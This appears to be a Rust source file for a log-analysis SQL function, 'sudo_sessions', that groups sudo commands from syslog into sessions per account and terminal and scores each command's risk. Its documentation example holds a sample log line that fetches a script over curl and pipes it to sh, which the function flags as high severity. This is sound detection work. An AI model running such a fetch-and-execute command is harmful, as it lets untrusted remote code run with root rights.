//! `sudo_sessions(tbl)`: what was done with sudo.

use super::logon::{self, ARGUMENTS, Asked, NO_TIME, Reader, Source, given, recognise};
use crate::group::{EventKernel, EventSink, Given, Recognised, TableColumn};
use crate::options::Value;
use crate::prelude::*;
use crate::process::{RiskOptions, Scanner, Severity};
use crate::time_text::{check_format, times_of};
use hashbrown::HashMap;

/// Options of `sudo_sessions`.
#[derive(Debug, Clone)]
pub struct SudoOptions {
    max_gap: i64,
    time_format: Option<String>,
}

impl Default for SudoOptions {
    fn default() -> Self {
        Self { max_gap: 30 * 60 * 1_000_000, time_format: None }
    }
}

impl Options for SudoOptions {
    const FIELDS: &'static [OptionField] = &[
        OptionField {
            name: "max_gap",
            kind: OptionKind::Duration,
            default: "'30m'",
            doc: "The longest time between two commands of a session.",
        },
        OptionField {
            name: "time_format",
            kind: OptionKind::Text,
            default: "NULL",
            doc: "How times read where their column is text: `'iso'`, or a pattern of strftime such as `'%m/%d/%Y %H:%M'`. Without a zone it is UTC.",
        },
    ];

    fn set(&mut self, name: &str, setting: Setting) -> Result<(), String> {
        match (name, setting) {
            ("max_gap", Setting::Duration(gap)) => self.max_gap = gap,
            ("time_format", Setting::Text(format)) => {
                check_format(&format)?;
                self.time_format = Some(format);
            }
            _ => {}
        }
        Ok(())
    }
}

/// Kernel of `sudo_sessions`.
pub struct SudoSessions;

/// A command that sudo was asked for.
#[derive(Debug, Clone)]
pub struct SudoCommand<'a> {
    time: i64,
    asked: Asked<'a>,
    severity: Option<Severity>,
    rules: Vec<String>,
}

impl SqlValue for SudoCommand<'_> {
    const TYPE: SqlType = SqlType::Struct(&[
        ("time", SqlType::Time),
        ("status", SqlType::Text),
        ("target", SqlType::Text),
        ("directory", SqlType::Text),
        ("command", SqlType::Text),
        ("severity", SqlType::Text),
        ("rules", SqlType::List(&SqlType::Text)),
    ]);
    fn write(&self, out: &mut Column) {
        let Asked { status, target, directory, command, .. } = self.asked;
        let row = out.row().put(known(self.time).map(Timestamp)).put(status).put(target).put(directory).put(command);
        row.put(self.severity.map(Severity::name)).put(self.rules.as_slice()).end();
    }
}

/// Commands of one account.
pub struct SudoSession<'a> {
    host: Option<&'a str>,
    commands: Vec<SudoCommand<'a>>,
}

impl SqlValue for SudoSession<'_> {
    const TYPE: SqlType = SqlType::Struct(&[
        ("host", SqlType::Text),
        ("account", SqlType::Text),
        ("tty", SqlType::Text),
        ("targets", SqlType::List(&SqlType::Text)),
        ("start_time", SqlType::Time),
        ("end_time", SqlType::Time),
        ("duration", SqlType::Float),
        ("command_count", SqlType::Int),
        ("refused_count", SqlType::Int),
        ("severity", SqlType::Text),
        ("rules", SqlType::List(&SqlType::Text)),
        ("status", SqlType::Text),
        ("commands", SqlType::List(&<SudoCommand<'static> as SqlValue>::TYPE)),
    ]);
    fn write(&self, out: &mut Column) {
        let all = &self.commands;
        let (start, end) = (all.first().and_then(|first| known(first.time)), all.last().and_then(|last| known(last.time)));
        let duration = start.zip(end).and_then(|(start, end)| end.checked_sub(start)).map(|micros| micros as f64 / 1e6);
        let refused = all.iter().filter(|command| command.asked.status != "ok").count();
        let status = match refused {
            0 => "ok",
            refused if refused == all.len() => "refused",
            _ => "mixed",
        };
        let count = |count: usize| i64::try_from(count).unwrap_or(i64::MAX);
        let targets = distinct(all.iter().filter_map(|command| command.asked.target));
        let rules = distinct(all.iter().flat_map(|command| command.rules.iter().map(String::as_str)));
        let of = all.first().map(|first| first.asked);
        let row = out.row().put(self.host).put(of.map(|of| of.account)).put(of.and_then(|of| of.tty)).put(targets.as_slice());
        let row = row.put(start.map(Timestamp)).put(end.map(Timestamp)).put(duration).put(count(all.len())).put(count(refused));
        let severity = all.iter().filter_map(|command| command.severity).max();
        row.put(severity.map(Severity::name)).put(rules.as_slice()).put(status).put(all.as_slice()).end();
    }
}

impl NotByte for SudoCommand<'_> {}

fn known(time: i64) -> Option<i64> {
    (time != NO_TIME).then_some(time)
}

fn distinct<'t>(texts: impl Iterator<Item = &'t str>) -> Vec<&'t str> {
    let mut texts: Vec<&str> = texts.collect();
    texts.sort_unstable();
    texts.dedup();
    texts
}

impl EventKernel for SudoSessions {
    const SPEC: Spec = Spec {
        name: "sudo_sessions",
        family: Family::Logs,
        summary: "What was done with sudo: the commands of each account, with their risk and what was refused.",
        details: include_str!("sudo_sessions.md"),
        args: &[
            Arg { name: "ts", doc: "When it happened. A text column needs `time_format`." },
            Arg { name: "host", doc: "Where." },
            Arg { name: "program", doc: "The program that wrote the line: others than sudo are left out." },
            Arg { name: "message", doc: "The line." },
            Arg { name: "ts_text", doc: "As `ts`, as text." },
        ],
        examples: &[Example {
            sql: "\
WITH log AS (SELECT to_timestamp(sec) AS time, 'web-1' AS host, 'sudo' AS app, message FROM (VALUES (0, 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id'),
    (60, 'alice : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl -s http://192.0.2.1/x | sh'), (90, 'eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/su')) v(sec, message))
SELECT account, tty, command_count, refused_count, severity, status FROM huntsql.sudo_sessions(log)",
            result: "alice | pts/0 | 2 | 0 | high | ok\neve | pts/1 | 1 | 1 | NULL | refused",
        }],
    };
    const ARGS: &'static [ArgType] = &[ArgType::Time, ArgType::Text, ArgType::Text, ArgType::Text, ArgType::Text];
    const KEEPS_ROWS: bool = false;
    type Options = SudoOptions;
    type Out<'a> = SudoSession<'a>;

    fn recognise(columns: &[TableColumn], given: &[Given], options: &Value) -> Result<Recognised, KernelError> {
        let mut all_given = [const { Given::Nothing }; ARGUMENTS.len()];
        for (own, place) in PLACES.iter().enumerate() {
            if let Some(slot) = all_given.get_mut(*place) {
                *slot = given.get(own).cloned().unwrap_or_default();
            }
        }
        let found = recognise(Self::SPEC.name, &[Source::Syslog], columns, &all_given, options)?;
        let columns = PLACES.iter().map(|place| found.columns.get(*place).cloned().flatten()).collect();
        Ok(Recognised { columns, several: Vec::new(), options: found.options })
    }

    fn compute(rows: &Rows, options: &SudoOptions, interrupt: &Interrupt, sink: &mut EventSink<'_>) -> GroupResult<()> {
        let mut reader = Reader::new(rows, times_of(rows.texts(TIME_TEXT), options.time_format.as_deref()), TIME_TEXT);
        let mut lines: Vec<(u32, i64, Asked<'_>)> = Vec::new();
        for row in 0..rows.len() {
            if row % STEP == 0 {
                interrupt.check()?;
            }
            let program = given(rows.texts(PROGRAM), row).map(|path| path.rsplit('/').next().unwrap_or(path));
            if program.is_some_and(|program| !program.eq_ignore_ascii_case("sudo")) {
                continue;
            }
            let Some(asked) = rows.texts(MESSAGE).get(row).and_then(Asked::read) else { continue };
            lines.push((reader.folded(HOST, row), reader.time(row), asked));
        }
        interrupt.check()?;
        let host = |id: u32| reader.pool.get(id);
        lines.sort_by(|(a_host, a_time, a), (b_host, b_time, b)| {
            let who = (host(*a_host), a.account, a.tty).cmp(&(host(*b_host), b.account, b.tty));
            who.then(a_time.cmp(b_time)).then_with(|| a.cmp(b))
        });
        let mut risks = Risks::new();
        let mut sessions: Vec<SudoSession<'_>> = Vec::new();
        let mut last: Option<(u32, i64, Asked<'_>)> = None;
        for (number, (id, time, asked)) in lines.into_iter().enumerate() {
            if number % 64 == 0 {
                interrupt.check()?;
            }
            let goes_on = last.is_some_and(|(host, before, of)| {
                (host, of.account, of.tty) == (id, asked.account, asked.tty) && time.saturating_sub(before) <= options.max_gap
            });
            if !goes_on || sessions.last().is_none_or(|session| session.commands.len() >= MOST) {
                sessions.push(SudoSession { host: host(id), commands: Vec::new() });
            }
            let (severity, rules) = risks.of(asked.command.unwrap_or(""));
            if let Some(session) = sessions.last_mut() {
                session.commands.push(SudoCommand { time, asked, severity, rules });
            }
            last = Some((id, time, asked));
        }
        // Those of one time stay in the order of host, account and terminal.
        sessions.sort_by_key(|session| session.commands.first().map(|first| first.time));
        sessions.iter().for_each(|session| sink.put(None, session));
        Ok(())
    }
}

// Places of the arguments.
const HOST: usize = 1;
const PROGRAM: usize = 2;
const MESSAGE: usize = 3;
const TIME_TEXT: usize = 4;
/// Where they stand among the arguments of `logon_sessions`, whose columns are looked for.
const PLACES: [usize; 5] = [logon::TIME, logon::HOST, logon::PROGRAM, logon::MESSAGE, logon::TIME_TEXT];
/// Rows between two looks at the interrupt.
const STEP: usize = 1 << 14;
/// Commands of a session at most.
const MOST: usize = 10_000;

/// What `command_risk` says of each distinct command.
struct Risks<'a> {
    scanner: Scanner,
    options: RiskOptions,
    known: HashMap<&'a str, (Option<Severity>, Vec<String>)>,
}

impl<'a> Risks<'a> {
    fn new() -> Self {
        let mut options = RiskOptions::default();
        // A name that is known: it does not fail.
        let _ = options.set("platform", Setting::Text("linux".to_owned()));
        Self { scanner: Scanner::default(), options, known: HashMap::new() }
    }

    fn of(&mut self, command: &'a str) -> (Option<Severity>, Vec<String>) {
        if let Some(known) = self.known.get(command) {
            return known.clone();
        }
        let found = self.scanner.scan(command, &self.options);
        let risk = (found.iter().map(|finding| finding.severity()).max(), found.iter().map(|finding| finding.name().to_owned()).collect());
        self.known.insert(command, Clone::clone(&risk));
        risk
    }
}
